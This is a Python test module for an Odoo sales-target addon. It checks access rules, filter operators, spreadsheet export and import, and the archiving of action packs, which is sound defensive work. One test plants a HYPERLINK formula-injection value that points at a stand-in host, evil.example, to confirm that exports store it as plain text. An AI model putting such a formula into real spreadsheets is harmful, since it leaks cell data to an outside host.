"""Hostile and careless input, part two: leaks through wizards and actions,
filters, spreadsheets, deletions and the customers' action plans (see
``test_hardening`` for the numbering)."""

import base64
import io
import logging
from datetime import date, datetime, timedelta
from unittest.mock import patch

import openpyxl

from odoo import Command, fields
from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import tagged

from ..wizards import allocation_xlsx
from .test_hardening import RefusalCase


@tagged("post_install", "-at_install")
class TestInputs(RefusalCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company.partner_id.tz = "UTC"
        cls.product = cls.env["product.product"].create(
            {"name": "Gear", "type": "service", "taxes_id": [Command.clear()]}
        )
        # customers of each salesperson, in East and West
        cls.east_buyer = cls.env["res.partner"].create(
            {
                "name": "East Buyer",
                "is_company": True,
                "user_id": cls.rep_a.id,
                "region_id": cls.east.id,
            }
        )
        cls.west_buyer = cls.env["res.partner"].create(
            {
                "name": "West Buyer",
                "is_company": True,
                "user_id": cls.rep_b.id,
                "region_id": cls.west.id,
            }
        )
        for partner, user, team, when in (
            (cls.east_buyer, cls.rep_a, cls.team_sh, datetime(2029, 3, 1, 10)),
            (cls.west_buyer, cls.rep_b, cls.team_w, datetime(2029, 4, 1, 10)),
        ):
            order = cls.env["sale.order"].create(
                {
                    "partner_id": partner.id,
                    "user_id": user.id,
                    "team_id": team.id,
                    "company_id": cls.company.id,
                    "order_line": [
                        Command.create(
                            {"product_id": cls.product.id, "price_unit": 1000.0}
                        )
                    ],
                }
            )
            order.action_confirm()
            order.date_order = when
        Lifecycle = cls.env["sale.customer.lifecycle"]
        Lifecycle._sync_customers()
        cls.lc_east = Lifecycle.search([("partner_id", "=", cls.east_buyer.id)])
        cls.lc_west = Lifecycle.search([("partner_id", "=", cls.west_buyer.id)])
        (cls.lc_east | cls.lc_west)._set_stage("stable", note=False)
        cls.other_company = cls.env["res.company"].create({"name": "Rival Co"})
        cls.foreign_target = cls.env["sale.target"].create(
            {
                "name": "Rival secret plan",
                "metric": "revenue",
                "date_from": cls.year_from,
                "date_to": cls.year_to,
                "company_id": cls.other_company.id,
                "currency_id": cls.other_company.currency_id.id,
                "amount": 31_337.0,
            }
        )

    def _wizard(self, target, user=None, **vals):
        target = target.with_user(user) if user else target
        action = target.action_allocate()
        wizard = self.env[action["res_model"]].browse(action["res_id"])
        wizard = wizard.with_user(user) if user else wizard
        if vals:
            wizard.write(vals)
        return wizard

    # 1 (the daily runs) ----------------------------------------------
    def test_01_one_bad_customer_never_stops_the_daily_runs(self):
        # East Buyer's first order a month ago: incubating, once classified
        order = self.env["sale.order"].create(
            {
                "partner_id": self.east_buyer.id,
                "user_id": self.rep_a.id,
                "company_id": self.company.id,
                "order_line": [
                    Command.create({"product_id": self.product.id, "price_unit": 50.0})
                ],
            }
        )
        order.action_confirm()
        order.date_order = fields.Datetime.now() - timedelta(days=30)
        Lifecycle = self.env["sale.customer.lifecycle"]
        original = type(Lifecycle)._classify
        bad = self.lc_west

        def failing(records, as_of):
            if bad in records:
                raise ValueError("broken figures")
            return original(records, as_of)

        with (
            patch.object(type(Lifecycle), "_classify", failing),
            self.assertLogs(
                "odoo.addons.sale_regional_target.models.sale_customer_lifecycle",
                logging.WARNING,
            ) as logs,
        ):
            Lifecycle._cron_classify()
        self.assertIn(f"Customer lifecycle {bad.id}", "\n".join(logs.output))
        today = fields.Date.context_today(Lifecycle)
        self.assertEqual(self.lc_east.classified_on, today)
        self.assertEqual(self.lc_east.suggested_stage, "incubating")
        # the bad one waits until tomorrow, without figures
        self.assertEqual(bad.classified_on, today)
        self.assertFalse(bad.suggested_stage)

    # 9 -----------------------------------------------------------------
    def test_09_allocation_wizard_shows_only_what_its_user_reads(self):
        Wizard = self.env["sale.target.allocation.wizard"].with_user(self.east_manager)
        for target in (self.t_west, self.t_company, self.foreign_target):
            with self.assertRaises(AccessError):
                Wizard.create({"target_id": target.id})
        wizard = Wizard.create({"target_id": self.t_east.id})
        self.assertEqual(wizard.amount, 600.0)
        with self.assertRaises(AccessError):
            wizard.write({"target_id": self.t_west.id})
        with self.refused(AccessError, "kept by the system"):
            wizard.write({"version": 41})
        with self.refused(AccessError, "kept by the system"):
            wizard.write({"state": "preview"})
        line = wizard.line_ids[:1]
        self.assertTrue(line)
        for vals in ({"child_key": "region,1"}, {"share": 99.0}, {"region_id": 1}):
            with self.refused(AccessError, "kept by the system"):
                line.write(vals)

    # 10 ----------------------------------------------------------------
    def test_10_classify_and_review_only_within_reach(self):
        manager = self.east_manager
        self.lc_west.with_user(self.hq).action_classify()  # HQ may
        for action in ("action_classify", "action_confirm_stage"):
            with self.assertRaises(AccessError):
                getattr(self.lc_west.with_user(manager), action)()
        self.assertEqual(self.lc_west.review_state, "confirmed")
        self.lc_east.with_user(manager).action_classify()
        # what the rules and the review store is not written by hand
        for vals in (
            {"stage": "growing"},
            {"review_state": "confirmed"},
            {"suggested_stage": "growing"},
            {"revenue_12m": 1e9},
            {"reviewed_by_id": manager.id},
            {"partner_id": self.west_buyer.id},
        ):
            with self.refused(AccessError, "not written directly"):
                self.lc_east.with_user(manager).write(vals)
        # the salesperson's own assessment stays theirs to write
        self.lc_east.with_user(self.rep_a).write({"proposed_stage": "growing"})
        self.assertEqual(self.lc_east.review_state, "proposed")
        with self.refused(AccessError, "not written directly"):
            self.lc_east.with_user(self.rep_a).with_context(
                lifecycle_review=True
            ).write({"proposed_stage": "declining", "review_state": "confirmed"})

    # 12 ----------------------------------------------------------------
    def test_12_every_searchable_field_takes_the_filter_operators(self):
        """Whatever operator the filter editor offers, on every searchable field
        of the addon's models (and the fields it adds), as a manager."""
        operators = [
            ("=", False),
            ("!=", False),
            ("in", [1, 2]),
            ("not in", [1, 2]),
            ("ilike", "a"),
            ("not ilike", "a"),
            ("=", 1),
            ("!=", 1),
        ]
        models = [
            "sale.region",
            "sale.target",
            "sale.target.line",
            "sale.customer.lifecycle",
            "sale.action.pack",
            "sale.action.completion",
            "res.partner",
            "mail.activity",
            "crm.lead",
            "sale.target.forecast.accuracy",
        ]
        for model in models:
            Model = self.env[model].with_user(self.east_manager)
            for name, field in Model._fields.items():
                if field.store or not field._description_searchable:
                    continue
                if field._module != "sale_regional_target":
                    continue  # Odoo's own fields
                for operator, value in operators:
                    with self.subTest(model=model, field=name, operator=operator):
                        Model.search([(name, operator, value)])

    def test_12_filters_mean_what_they_say(self):
        Region = self.env["sale.region"]
        east_tree = self.east | self.shanghai
        manager_name = self.east_manager.name
        self.assertEqual(
            Region.search([("manager_user_ids", "ilike", manager_name)]) & self.east,
            self.east,
        )
        self.assertEqual(
            Region.search([("manager_user_ids", "in", self.east_manager.ids)])
            & (east_tree | self.west),
            east_tree,
        )
        self.assertEqual(
            Region.search([("manager_user_ids", "not in", self.east_manager.ids)])
            & (east_tree | self.west),
            self.west,
        )
        self.assertEqual(
            Region.search([("manager_user_ids", "=", False)]) & (east_tree | self.west),
            self.west,
        )
        self.assertEqual(
            Region.search([("member_user_ids", "not ilike", self.rep_b.name)])
            & (east_tree | self.west),
            east_tree,
        )
        Partner = self.env["res.partner"].with_company(self.company)
        buyers = self.east_buyer | self.west_buyer
        self.assertEqual(
            Partner.search([("lifecycle_stage", "ilike", "stab")]) & buyers, buyers
        )
        self.assertFalse(
            Partner.search([("lifecycle_stage", "not ilike", "stab")]) & buyers
        )
        self.assertEqual(
            Partner.search([("lifecycle_stage", "=", False), ("id", "in", buyers.ids)]),
            Partner,
        )
        # as a salesperson, another team's customer has no visible stage
        Partner = Partner.with_user(self.rep_a)
        self.assertEqual(
            Partner.search(
                [("lifecycle_stage", "!=", False), ("id", "in", buyers.ids)]
            ),
            self.east_buyer,
        )

    # 13, 16 ------------------------------------------------------------
    def test_13_16_exported_texts_are_strings_and_the_file_name_is_clean(self):
        self.t_team_sh.name = '=HYPERLINK("http://evil.example/?"&A1,"x") / Q1?#x'
        self.rep_a.name = "=1+1"
        wizard = self._wizard(self.t_team_sh, method="equal")
        wizard.action_preview()
        action = wizard.action_export_xlsx()
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.xlsx_file)))
        sheet = book["Allocation"]
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
        # the only formulas are the export's own checks, never a user's text
        formulas = [c.value for c in cells if c.data_type == "f"]
        self.assertTrue(formulas)
        for formula in formulas:
            self.assertRegex(formula, r"^=(SUM|IF\(ROUND)\(", formula)
            self.assertNotIn("HYPERLINK", formula)
        self.assertEqual(sheet["A1"].value, self.t_team_sh.name)
        self.assertIn("=1+1", [c.value for c in cells if c.data_type == "s"])
        name = action["url"].split("/xlsx_file/")[1].split("?download")[0]
        self.assertNotRegex(name, r"[/?#]")
        self.assertNotRegex(wizard.xlsx_filename, r"[/\\?#]")
        self.assertTrue(wizard.xlsx_filename.endswith("- allocation.xlsx"))

    # 14, 15 ------------------------------------------------------------
    def _upload(self, wizard, edit):
        content = allocation_xlsx.export_preview(wizard)
        book = openpyxl.load_workbook(io.BytesIO(content))
        sheet = book["Allocation"]
        edit(sheet, {row[0].value: row for row in sheet.iter_rows(min_row=5)})
        out = io.BytesIO()
        book.save(out)
        wizard.xlsx_file = base64.b64encode(out.getvalue())
        wizard.action_import_xlsx()

    def test_14_impossible_numbers_in_a_spreadsheet(self):
        wizard = self._wizard(self.t_company, method="equal")
        wizard.action_preview()
        before = {line.id: line.amount for line in wizard.line_ids}
        east = f"/region,{self.east.id}"
        west = f"/region,{self.west.id}"
        for east_value, west_value in (
            ("nan", 0),
            (float("inf"), 0),
            ("1e400", 0),
            ("-inf", 1000),
            (1e13, 0),
        ):

            def edit(sheet, rows, a=east_value, b=west_value):
                rows[east][6].value = a
                rows[west][6].value = b

            with self.refused(UserError, r"Row \d+ \(Testland / East\): the amount"):
                self._upload(wizard, edit)
            self.assertEqual({line.id: line.amount for line in wizard.line_ids}, before)

    def test_15_a_flood_of_bad_rows_gets_a_short_answer(self):
        wizard = self._wizard(self.t_company, method="equal")
        wizard.action_preview()

        def flood(sheet, rows):
            for i in range(100_000):
                sheet.append([f"/region,{10**7 + i}", "", "Nowhere", 0, 0, 0, 1])

        with self.assertRaises(UserError) as caught:
            self._upload(wizard, flood)
        message = str(caught.exception)
        self.assertLess(len(message), 3_000)
        self.assertIn("99,980 more rows with errors", message)
        self.assertEqual(message.count("unknown child"), 20)

    # 17 ----------------------------------------------------------------
    def test_17_used_action_packs_are_archived_not_deleted(self):
        kind = self.env["mail.activity.type"].create({"name": "Site visit"})
        pack = self.env["sale.action.pack"].create(
            {
                "name": "Stable care",
                "stage": "stable",
                "company_id": self.company.id,
                "line_ids": [
                    Command.create(
                        {
                            "activity_type_id": kind.id,
                            "name": "Visit",
                            "frequency_number": 1,
                            "frequency_unit": "months",
                        }
                    )
                ],
            }
        )
        (self.lc_east | self.lc_west)._schedule_action_packs()
        Activity = self.env["mail.activity"]
        planned = Activity.search([("action_pack_line_id", "in", pack.line_ids.ids)])
        self.assertEqual(len(planned), 2)
        with self.refused(UserError, "archive"):
            pack.unlink()
        with self.refused(UserError, "archive"):
            pack.line_ids.unlink()
        pack.active = False
        self.assertFalse(
            any((self.lc_east | self.lc_west).mapped("actions_planned_on"))
        )
        (self.lc_east | self.lc_west)._schedule_action_packs()
        self.assertFalse(planned.exists(), "open actions of an archived pack go")
        note = self.east_buyer.message_ids.filtered(
            lambda m: "Planned actions cancelled" in (m.body or "")
        )
        self.assertTrue(note)

    # 2 (activities) ----------------------------------------------------
    def test_02_planned_actions_are_done_not_faked(self):
        kind = self.env["mail.activity.type"].create({"name": "Call"})
        pack = self.env["sale.action.pack"].create(
            {
                "name": "Stable care",
                "stage": "stable",
                "company_id": self.company.id,
                "line_ids": [
                    Command.create({"activity_type_id": kind.id, "name": "Call"})
                ],
            }
        )
        self.lc_east._schedule_action_packs()
        activity = self.env["mail.activity"].search(
            [("action_pack_line_id", "in", pack.line_ids.ids)]
        )
        mine = activity.with_user(self.rep_a)
        for vals in (
            {"action_key": False},
            {"date_deadline": "2099-01-01"},
            {"user_id": self.rep_b.id},
            {"active": False},
            {"date_done": "2030-01-01"},
        ):
            with self.refused(AccessError, "planned by the customer's action pack"):
                mine.write(vals)
        with self.refused(AccessError, "cannot be cancelled"):
            mine.unlink()
        with self.refused(AccessError, "planned by the customer's action pack"):
            self.env["mail.activity"].with_user(self.rep_a).create(
                {
                    "res_model_id": self.env["ir.model"]._get_id("res.partner"),
                    "res_id": self.east_buyer.id,
                    "activity_type_id": kind.id,
                    "user_id": self.rep_a.id,
                    "action_pack_line_id": pack.line_ids.id,
                    "action_key": True,
                }
            )
        mine.action_feedback(feedback="Met the buyer")
        self.assertFalse(activity.active)
        self.assertEqual(activity.date_done, date.today())
        # completion figures are the system's
        with self.assertRaises(AccessError):
            self.env["sale.action.completion"].with_user(self.hq).create(
                {
                    "user_id": self.rep_a.id,
                    "company_id": self.company.id,
                    "week_start": "2030-01-07",
                    "rate": 100.0,
                }
            )

    # 18 ----------------------------------------------------------------
    def test_18_an_override_needs_a_real_reason(self):
        Review = self.env["sale.customer.lifecycle.review"].with_user(self.east_manager)
        for reason in ("   ", "\n\t ", ""):
            review = Review.with_context(
                active_model="sale.customer.lifecycle", active_ids=self.lc_east.ids
            ).create({"stage": "growing", "reason": reason or " "})
            with self.refused(ValidationError, "Give the reason"):
                review.action_apply()
        self.assertEqual(self.lc_east.stage, "stable")

    # 20 ----------------------------------------------------------------
    def test_20_potential_of_teams_and_salespeople(self):
        """Potential below regions comes from the customers each salesperson
        owns (and, for a team, its salespeople's): East scores 0 and West 100
        (min-max of 100 and 300); Rep A sells to East Buyer, the team leader to
        a West customer."""
        factor = self.env["sale.region.factor"].create(
            {"name": "Size", "weight": 1, "normalisation": "minmax"}
        )
        self.env["sale.region.factor.value"].create(
            [
                {"region_id": r.id, "factor_id": factor.id, "year": 2029, "value": v}
                for r, v in ((self.east, 100), (self.west, 300))
            ]
        )
        self.env["res.partner"].create(
            {
                "name": "Leader's West Buyer",
                "is_company": True,
                "user_id": self.leader.id,
                "region_id": self.west.id,
            }
        )
        # salespeople of a team
        wizard = self._wizard(self.t_team_sh, method="potential", potential_year=2029)
        wizard.rounding_unit = "1"
        wizard.action_preview()
        amounts = {line.name: line.amount for line in wizard.line_ids}
        self.assertEqual(amounts, {"Rep A": 0.0, "SH Leader": 600.0})
        blend = self._wizard(self.t_team_sh, method="blend", potential_year=2029)
        blend.action_preview()
        self.assertEqual(sum(blend.line_ids.mapped("amount")), 600.0)
        # teams of a region
        wizard = self._wizard(self.t_west, method="potential", potential_year=2029)
        wizard.action_preview()
        line = wizard.line_ids
        self.assertEqual((line.name, line.amount), ("Team W", 400.0))
        self.assertGreater(line.potential_score, 0.0)

    # 21 ----------------------------------------------------------------
    def test_21_manual_starts_from_the_children_with_a_running_total(self):
        wizard = self._wizard(self.t_company, user=self.hq, method="manual")
        top = wizard.top_line_ids
        self.assertEqual(
            {line.name: line.manual_value for line in top},
            {"Testland / East": 600.0, "Testland / West": 400.0},
        )
        self.assertEqual((wizard.manual_total, wizard.manual_left), (1000.0, 0.0))
        wizard.write(
            {
                "line_ids": [
                    Command.update(top[0].id, {"manual_value": 700.0}),
                    Command.update(top[1].id, {"manual_value": 250.0}),
                ]
            }
        )
        self.assertEqual((wizard.manual_total, wizard.manual_left), (950.0, 50.0))
        with self.refused(UserError, "add up to"):
            wizard.action_preview()
        top[1].manual_value = 300.0
        wizard.action_preview()
        self.assertEqual(
            {line.name: line.amount for line in wizard.line_ids},
            {"Testland / East": 700.0, "Testland / West": 300.0},
        )
        # percentages follow the switch
        fresh = self._wizard(self.t_company, user=self.hq, method="manual")
        fresh.manual_mode = "percent"
        fresh._onchange_manual_mode()
        self.assertEqual(
            sorted(fresh.top_line_ids.mapped("manual_value")), [40.0, 60.0]
        )
